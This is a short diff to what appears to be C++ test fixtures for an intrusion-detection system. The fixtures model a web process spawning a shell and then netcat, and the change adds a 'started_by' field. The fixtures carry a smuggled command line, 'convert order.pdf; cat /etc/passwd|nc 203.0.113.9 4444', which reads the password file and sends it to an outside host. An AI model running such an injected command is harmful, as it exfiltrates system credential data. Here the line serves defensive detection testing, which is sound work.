@@ -72,6 +72,7 @@ inline Alert python_departs() {
 
 inline Alert shell_starts() {
   Alert alert = web_alert("a-0b9e3f1d2c55", AlertKind::new_executable, "/bin/dash");
+  alert.started_by = alert.parent_executable;
   alert.command_line = std::string("sh\0-c\0convert order.pdf; cat /etc/passwd|nc 203.0.113.9 4444\0", 61);
   add_calls(alert,
             {{0,
@@ -88,7 +89,7 @@ inline Alert netcat_starts() {
   alert.time_ns += 19 * kMillisecond;
   alert.pid = Pid{48213};
   alert.tid = Tid{48213};
-  alert.parent_executable = "/bin/dash";
+  alert.started_by = alert.parent_executable = "/bin/dash";
   alert.parent_pid = Pid{48211};
   alert.command_line = std::string("nc\000203.0.113.9\0004444\0", 20);
   return alert;
